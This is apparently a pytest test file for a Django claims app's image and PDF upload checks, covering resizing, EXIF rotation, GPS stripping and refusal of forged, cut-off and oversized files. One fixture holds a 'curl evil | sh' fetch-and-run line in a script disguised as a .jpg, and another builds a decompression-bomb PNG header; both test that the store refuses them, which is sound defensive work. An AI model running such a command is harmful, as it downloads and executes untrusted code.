"""Photos and scans of claim documents (SPEC C1, S5): real images made here with Pillow,
checked, shrunk, turned upright and stripped of GPS; forged, cut-off and oversized ones
refused with a message naming the file, never a 500."""

import io
import struct
import tracemalloc
import zlib

import pytest
from django.test import override_settings
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from PIL import Image, ImageOps

from huzhu.files import images, rules
from huzhu.files.images import check_document, normalized_jpeg, thumbnail_jpeg
from huzhu.files.models import StoredFile
from huzhu.files.services import FileRefused
from tests.files.test_store import files_on_disk, upload

GPS_IFD = 0x8825
ORIENTATION = 0x0112


@pytest.fixture(autouse=True)
def own_store(settings, tmp_path):
    settings.HUZHU_FILES_DIR = tmp_path / "files"


def photo(size=(4000, 3000), fmt="JPEG", exif=None, mode="RGB") -> bytes:
    image = Image.new(mode, size, "white")
    # Something that is not flat: a dark block in the top left corner, to see turns.
    image.paste("black" if mode == "RGB" else 0, (0, 0, size[0] // 4, size[1] // 4))
    out = io.BytesIO()
    options = {"exif": exif} if exif is not None else {}
    image.save(out, fmt, **options)
    return out.getvalue()


def phone_exif(orientation: int = 6) -> Image.Exif:
    exif = Image.Exif()
    exif[ORIENTATION] = orientation
    exif[0x010F] = "Apple"  # Make
    exif.get_ifd(GPS_IFD).update(
        {1: "N", 2: (31.0, 42.0, 30.0), 3: "E", 4: (119.0, 56.0, 40.0)}  # 武进
    )
    return exif


def opened(content: bytes) -> Image.Image:
    image = Image.open(io.BytesIO(content))
    image.load()
    return image


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_declaring(width: int, height: int) -> bytes:
    """A PNG whose header declares width × height (8-bit grey) and whose data holds a few
    rows: a decompression bomb's header, built without the gigabytes behind it."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = zlib.compress(b"\x00" * (width + 1) * 4)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", rows)
        + png_chunk(b"IEND", b"")
    )


PDF = (
    b"%PDF-1.4\n1 0 obj<</Type /Catalog /Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type /Pages /Kids [3 0 R] /Count 1>>endobj\n"
    b"3 0 obj<</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]>>endobj\n"
    b"trailer<</Root 1 0 R>>\n%%EOF\n"
)
HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 200


def test_c1_a_12_megapixel_phone_photo_shrinks_to_2000_px_on_the_long_edge():
    content = photo((4000, 3000))
    assert check_document(content, "jpeg", name="发票.jpg") == images.DocumentInfo(
        kind="jpeg", width=4000, height=3000, previewable=True
    )
    kept = normalized_jpeg(content, "jpeg", name="发票.jpg")
    assert kept.changed and kept.kind == "jpeg"
    assert opened(kept.content).size == (2000, 1500)
    assert opened(kept.content).format == "JPEG"
    assert len(kept.content) < len(content)


def test_c1_a_photo_held_sideways_is_turned_upright_and_loses_its_gps_location():
    content = photo((1200, 800), exif=phone_exif(orientation=6))
    assert opened(content).getexif().get_ifd(GPS_IFD)  # the phone wrote where it was
    info = check_document(content, "jpeg", name="住院发票.jpg")
    assert (info.width, info.height) == (800, 1200)  # as the reviewer sees it

    kept = normalized_jpeg(content, "jpeg", name="住院发票.jpg")
    image = opened(kept.content)
    assert image.size == (800, 1200)
    exif = image.getexif()
    assert not exif.get_ifd(GPS_IFD)
    assert ORIENTATION not in exif and 0x010F not in exif
    assert b"Apple" not in kept.content and b"GPS" not in kept.content
    # Turned clockwise: the dark top-left corner is now at the top right.
    assert image.convert("L").getpixel((790, 10)) < 60
    assert image.convert("L").getpixel((10, 10)) > 200


@pytest.mark.parametrize("orientation", range(1, 9))
def test_c1_every_exif_orientation_is_turned_as_pillow_turns_it(orientation):
    content = photo((300, 200), exif=phone_exif(orientation=orientation))
    expected = ImageOps.exif_transpose(opened(content)).convert("L")
    kept = opened(normalized_jpeg(content, "jpeg").content).convert("L")
    assert kept.size == expected.size
    for corner in ((5, 5), (kept.width - 5, 5), (5, kept.height - 5)):
        assert abs(kept.getpixel(corner) - expected.getpixel(corner)) < 40


def test_c1_a_small_upright_photo_with_only_gps_is_still_re_encoded_without_it():
    content = photo((800, 600), exif=phone_exif(orientation=1))
    kept = normalized_jpeg(content, "jpeg")
    assert kept.changed
    assert opened(kept.content).size == (800, 600)
    assert not opened(kept.content).getexif().get_ifd(GPS_IFD)


def test_c1_a_small_png_screenshot_is_kept_as_it_was():
    content = photo((750, 1334), fmt="PNG")
    info = check_document(io.BytesIO(content), "png", name="截图.png")
    assert (info.kind, info.width, info.height, info.previewable) == ("png", 750, 1334, True)
    kept = normalized_jpeg(content, "png", name="截图.png")
    assert kept == images.Normalized(content, "png", changed=False)
    assert kept.name_for("截图.png") == "截图.png"


def test_c1_a_large_png_with_transparency_becomes_a_jpeg_on_white_named_jpg():
    content = photo((3000, 2000), fmt="PNG", mode="RGBA")
    kept = normalized_jpeg(content, "png")
    image = opened(kept.content)
    assert (image.format, image.mode, image.size) == ("JPEG", "RGB", (2000, 1333))
    assert kept.name_for("病历.png") == "病历.jpg"
    assert rules.name_fits(kept.name_for("病历.png"), rules.JPEG)


def test_c1_a_thumbnail_is_a_small_upright_jpeg_and_none_for_pdf_and_heic():
    content = photo((4000, 3000), exif=phone_exif(orientation=6))
    image = opened(thumbnail_jpeg(content, "jpeg"))
    assert image.format == "JPEG" and image.size == (240, 320)
    assert not image.getexif().get_ifd(GPS_IFD)
    assert opened(thumbnail_jpeg(photo((800, 600)), "jpeg", edge=100)).size == (100, 75)
    assert thumbnail_jpeg(PDF, "pdf") is None
    assert thumbnail_jpeg(HEIC, "heic") is None


def test_s5_a_script_renamed_jpg_is_refused_by_the_store(people):
    with pytest.raises(FileRefused) as refused:
        upload(people.hutang_clerk, b"#!/bin/sh\ncurl evil | sh\n", "身份证.jpg", rules.DOCUMENTS)
    assert refused.value.message == "该文件是可执行程序，不是文档，未予接收。"
    assert not StoredFile.objects.exists() and files_on_disk() == set()


def test_s5_a_text_file_renamed_jpg_is_refused_by_the_store(people):
    with pytest.raises(FileRefused) as refused:
        upload(people.hutang_clerk, b"not a photo at all\n", "身份证.jpg", rules.DOCUMENTS)
    assert "身份证.jpg" in refused.value.message


def test_s5_a_photo_larger_than_the_upload_limit_is_refused_by_size(people):
    with override_settings(HUZHU_UPLOAD_MAX_BYTES=100_000):
        with pytest.raises(FileRefused) as refused:
            upload(
                people.hutang_clerk,
                photo((4000, 3000)) + b"\x00" * 100_000,
                "a.jpg",
                rules.DOCUMENTS,
            )
    assert "MB" in refused.value.message
    assert files_on_disk() == set()


def test_s5_a_real_photo_pdf_and_heic_are_kept_by_the_store(people):
    for content, name in ((photo((800, 600)), "a.jpg"), (PDF, "b.pdf"), (HEIC, "c.heic")):
        stored = upload(people.hutang_clerk, content, name, rules.DOCUMENTS).file
        assert stored.content_type in ("image/jpeg", "application/pdf", "image/heic")
    assert StoredFile.objects.count() == 3


@pytest.mark.parametrize(
    "content",
    [
        b"\xff\xd8\xff\xe0" + bytes(range(256)) * 40,  # a JPEG header, then garbage
        photo((1600, 1200))[:5000],  # a real photo cut off
        photo((400, 300), fmt="PNG")[:-40],  # a PNG cut off before its end
    ],
    ids=["jpeg-header-and-garbage", "cut-off-jpeg", "cut-off-png"],
)
def test_s5_a_forged_or_cut_off_image_is_refused_naming_the_file(content):
    kind = rules.sniff(content)
    assert kind is not None  # the first bytes alone pass
    with pytest.raises(FileRefused) as refused:
        check_document(content, kind.code, name="出院小结.jpg")
    assert refused.value.message.startswith("出院小结.jpg")
    assert "无法作为图片读取" in refused.value.message
    with pytest.raises(FileRefused):
        normalized_jpeg(content, kind.code, name="出院小结.jpg")


@pytest.mark.parametrize(("width", "height"), [(30000, 30000), (8000, 6000)])
def test_s5_a_decompression_bomb_is_refused_before_it_is_decoded(width, height):
    content = png_declaring(width, height)
    assert len(content) < 200_000
    tracemalloc.start()
    try:
        for check in (check_document, normalized_jpeg, thumbnail_jpeg):
            with pytest.raises(FileRefused) as refused:
                check(content, "png", name="bomb.png")
            assert refused.value.message.startswith("bomb.png")
            assert "图像过大" in refused.value.message
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 20 * 1024 * 1024  # decoded, the image would take 900 MB or 48 MB


def test_s5_a_pdf_is_accepted_with_its_page_count():
    assert check_document(PDF, "pdf", name="诊断证明.pdf") == images.DocumentInfo(
        kind="pdf", pages=1
    )
    kept = normalized_jpeg(PDF, "pdf")
    assert kept == images.Normalized(PDF, "pdf", changed=False)


def test_s5_a_pdf_without_its_end_or_with_too_many_pages_is_refused():
    with pytest.raises(FileRefused) as refused:
        check_document(PDF[:-30], "pdf", name="诊断证明.pdf")
    assert refused.value.message == "诊断证明.pdf 不是完整的 PDF 文件，请重新保存或扫描。"
    many = PDF.replace(b"%%EOF", b"/Type /Page\n" * (images.PDF_PAGE_LIMIT + 1) + b"%%EOF")
    with pytest.raises(FileRefused) as refused:
        check_document(many, "pdf", name="病历.pdf")
    assert "超过 200 页" in refused.value.message


def test_s5_a_pdf_written_by_pypdf_is_accepted(tmp_path):
    from pypdf import PdfWriter

    writer = PdfWriter()
    for _page in range(3):
        writer.add_blank_page(595, 842)
    path = tmp_path / "检查报告.pdf"
    with open(path, "wb") as out:
        writer.write(out)
    assert check_document(path, "pdf").kind == "pdf"
    assert check_document(path, "pdf").pages in (3, None)


def test_c1_heic_is_accepted_as_it_is_and_cannot_be_previewed():
    assert rules.sniff(HEIC) == rules.HEIC
    info = check_document(HEIC, "heic", name="IMG_0001.HEIC")
    assert info == images.DocumentInfo(kind="heic", previewable=False)
    assert normalized_jpeg(HEIC, "heic") == images.Normalized(HEIC, "heic", changed=False)


def test_a_path_gives_its_own_name_to_the_message(tmp_path):
    path = tmp_path / "工会卡.jpg"
    path.write_bytes(b"\xff\xd8\xff\xe0garbage")
    with pytest.raises(FileRefused) as refused:
        check_document(path, "jpeg")
    assert refused.value.message.startswith("工会卡.jpg")


@hypothesis_settings(
    max_examples=300,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(
    start=st.sampled_from(
        [b"", b"\xff\xd8\xff", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00", b"\x89PNG\r\n\x1a\n", b"%PDF-"]
    ),
    rest=st.binary(max_size=2048),
    kind=st.sampled_from(["jpeg", "png", "pdf", "heic"]),
)
def test_random_bytes_never_raise_anything_but_file_refused(start, rest, kind):
    content = start + rest
    for check in (check_document, normalized_jpeg, thumbnail_jpeg):
        try:
            check(content, kind, name="x")
        except FileRefused as refused:
            assert refused.message


SEEDS = {
    "jpeg": photo((64, 48), exif=phone_exif(orientation=6)),
    "png": photo((64, 48), fmt="PNG"),
}


@hypothesis_settings(
    max_examples=300,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(
    kind=st.sampled_from(["jpeg", "png"]),
    at=st.integers(min_value=0, max_value=4000),
    patch=st.binary(min_size=1, max_size=64),
    cut=st.integers(min_value=0, max_value=4000),
)
def test_a_real_photo_with_damaged_bytes_never_raises_anything_but_file_refused(
    kind, at, patch, cut
):
    seed = SEEDS[kind]
    at = at % len(seed)
    content = (seed[:at] + patch + seed[at + len(patch) :])[: max(len(seed) - cut, 8)]
    for check in (check_document, normalized_jpeg, thumbnail_jpeg):
        try:
            check(content, kind, name="x")
        except FileRefused as refused:
            assert refused.message
